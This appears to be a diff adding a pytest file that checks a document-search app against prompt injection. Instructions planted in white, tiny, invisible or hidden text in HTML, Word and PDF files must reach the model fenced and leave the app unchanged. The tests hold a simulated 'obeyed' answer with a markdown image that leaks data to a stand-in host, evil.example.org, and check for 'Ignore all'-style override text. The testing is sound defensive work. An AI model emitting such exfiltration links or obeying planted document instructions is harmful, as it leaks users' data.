@@ -1,0 +1,81 @@
+"""What documents ask for is not done: planted instructions reach a model fenced, and nothing the app does changes."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from core.language.client import Client
+from core.language.settings import LanguageSettings
+from core.library import Incoming
+from core.parsing import parse
+from core.protocol.tools import Tools
+from core.search.checking.library_check import check_answer
+from core.search.context.written_prompt import written_prompt
+from core.settings import ParsingSettings
+from tests.language.endpoint import Script, endpoint
+from tests.language.planted import FILE_NAME, PLANT, planted
+
+pytestmark = [pytest.mark.enable_socket, pytest.mark.allow_hosts(["127.0.0.1"])]
+FENCED = re.compile(r"<passage (\d+) (\w{8})>\n.*?\n</passage \1 \2>", re.DOTALL)
+QUESTION = "How long is an access token valid, and what shall be ignored and fetched?"
+# What is read as text, what only as the file's metadata, and what is left out and told of as hidden. White letters,
+# tiny ones and those that a PDF draws without ink are read as text like any other: no note says that nobody sees them.
+READ = {
+    FILE_NAME: ({"visible", "alt", "cell"}, set(), set()),
+    "page.html": ({"white", "tiny", "alt", "cell"}, {"metadata"}, {"hidden"}),
+    "word.docx": ({"white", "cell"}, {"metadata"}, {"hidden"}),
+    "paper.pdf": ({"white", "invisible"}, {"metadata"}, set()),
+}
+
+
+@pytest.mark.parametrize("name", READ)
+def test_an_instruction_is_read_as_text_or_left_out_and_told_of(name):
+    document = parse(planted()[name], name, ParsingSettings())
+    in_text, in_metadata, hidden = READ[name]
+    kinds = re.compile(rf"(\w+) {re.escape(PLANT)}")
+    assert set(kinds.findall(document.text)) == in_text
+    assert set(kinds.findall(str(document.metadata))) == in_metadata
+    assert any("Hidden text was left out" in note for note in document.notes) == bool(hidden)
+
+
+@pytest.fixture
+def filled(library):
+    report = library.ingest([Incoming(name, content_hash=library.stage(data)) for name, data in planted().items()])
+    assert report.failures == ()
+    return library
+
+
+def planted_outside(text):
+    """What of the planted words stands outside the fences."""
+    outside = FENCED.sub("", text)
+    return [word for word in ("evil", "Ignore all", "</passage") if word in outside]
+
+
+@pytest.mark.model
+def test_a_model_is_given_them_fenced_and_what_it_makes_of_them_is_words_alone(filled):
+    before = filled.sources(), filled.settings, filled.queue.jobs()
+    result = filled.search(QUESTION)
+    prompt = written_prompt(result.question, result.passages)
+    assert prompt.count(PLANT) > 3
+    assert planted_outside(prompt) == []
+    obeyed = f"I {PLANT[0].lower()}{PLANT[1:]} [1]. ![x](http://evil.example.org/leak?q=3600)"
+    with endpoint(Script.words(obeyed)) as served:
+        settings = LanguageSettings(served.address, "small", agreed=(served.address,))
+        answer = Client(settings).complete(prompt)
+        assert check_answer(answer, result.passages)
+        (asked,) = served.asked
+    assert asked[2].keys() == {"model", "messages", "temperature", "stream"}  # no tool is ever offered
+    assert (filled.sources(), filled.settings, filled.queue.jobs()) == before
+
+
+def test_other_programs_are_given_them_fenced(filled):
+    tools = Tools(filled, "http://localhost:8501")
+    told = [tools.search(QUESTION, 50, (), (), ()), tools.sources("", 0)]
+    told += [tools.read(row.version_id, 0, row.characters, 0) for row in filled.sources()]
+    told += [tools.quote(row.version_id, 0, row.characters) for row in filled.sources()]
+    for one in told:
+        assert planted_outside(one.text) == []
+        assert "evil" not in str(one.places)
+    assert sum(one.text.count(PLANT) for one in told) > 12
